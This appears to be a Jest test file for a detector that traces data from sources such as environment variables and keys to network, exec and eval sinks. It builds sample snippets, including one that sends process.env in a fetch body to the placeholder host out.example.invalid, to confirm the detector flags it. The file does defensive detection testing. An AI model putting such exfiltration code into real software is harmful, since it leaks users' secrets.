import { describe, expect, test } from '@jest/globals';
import { aliases, brought, carried, shapes, sinks, sources, type SourceName } from './shapes.js';
import { ways } from './ways.js';

interface Pair { readonly source: SourceName; readonly sink: 'network' | 'exec' | 'eval'; readonly data: string; readonly put: (data: string) => string }

const pairs: readonly Pair[] = [...carried.map((source) => ({ source, to: ['network'] as const })), ...brought.map((source) => ({ source, to: ['exec', 'eval'] as const }))]
  .flatMap(({ source, to }) => sources[source].flatMap((data) => to.flatMap((sink) => sinks[sink].map((put) => ({ source, sink, data, put })))));
/** Some of all pairs, other ones from table to table: each pair is tried in several ways. */
const some = (turn: number): readonly Pair[] => pairs.filter((_, at) => at % 13 === turn % 13);
const missed = (all: readonly Pair[], textOf: (pair: Pair) => Parameters<typeof ways>[0]): readonly string[] => all.flatMap((pair) => {
  const text = textOf(pair);
  const found = ways(text);
  return found.includes(`${pair.source}>${pair.sink}`) ? [] : [`${pair.source}>${pair.sink}: ${found.join()} in ${JSON.stringify(text)}`];
});

describe('data is followed from every source to every sink', () => {
  test.each(carried)('%s to the network', (source) => {
    expect(missed(pairs.filter((one) => one.source === source), ({ data, put }) => `(async () => { ${put(data)} })()`)).toEqual([]);
  });
  test.each(brought)('%s to programs and to code', (source) => {
    expect(missed(pairs.filter((one) => one.source === source), ({ data, put }) => `(async () => { ${put(data)} })()`)).toEqual([]);
  });
});

describe('whatever the way between them', () => {
  test.each(shapes.map((shape, turn) => ({ ...shape, turn })))('$name', ({ of, turn }) => {
    expect(missed(some(turn), ({ data, put }) => of(data, put))).toEqual([]);
  });

  test('two ways, one after the other', () => {
    const inner = shapes.filter(({ of }) => typeof of('x', (data) => data) === 'string');
    // The first way hands over what a function gives, the second one takes it up.
    const failed = inner.flatMap((first, at) => {
      const second = inner[(at * 7 + 3) % inner.length]!;
      const text = `let handed; ${first.of('process.env', (data) => `handed = ${data}`) as string} ${second.of('handed', (data) => `fetch("https://out.example.invalid", { body: ${data} })`) as string}`;
      return ways(text).includes('environment>network') ? [] : [`${first.name}, ${second.name}`];
    });
    expect(failed).toEqual([]);
  });
});

describe('whatever the names are', () => {
  test.each(aliases)('%s', (_, before, rewrite) => {
    const changed = pairs.filter(({ data, put }) => rewrite(put(data)) !== put(data)).filter((__, at) => at % 4 === 0);
    expect(changed.length).toBeGreaterThan(5);
    expect(missed(changed, ({ data, put }) => `${before} (async () => { ${rewrite(put(data))} })()`)).toEqual([]);
  });
});

describe('nothing where nothing goes', () => {
  const harmless: readonly ((data: string) => string)[] = [(data) => `console.log(${data})`, (data) => `module.exports = ${data}`, (data) => `if ((${data}) === "x") fetch("https://out.example.invalid")`, (data) => `f(typeof (${data}))`];
  test.each(carried.filter((source) => source !== 'key'))('%s is read, and not sent', (source) => {
    shapes.forEach((shape, at) => {
      expect([shape.name, ways(shape.of(sources[source][0], harmless[at % harmless.length]!)).filter((one) => !one.startsWith('download'))]).toEqual([shape.name, []]);
    });
  });
  test.each(['network', 'exec'] as const)('what is plain goes to %s', (sink) => {
    for (const shape of shapes) {
      const put = sinks[sink][0]!;
      if (!/base64|hexadecimal|letter/.test(shape.name)) expect([shape.name, ways(shape.of('"plain text"', put))]).toEqual([shape.name, []]);
    }
  });
});
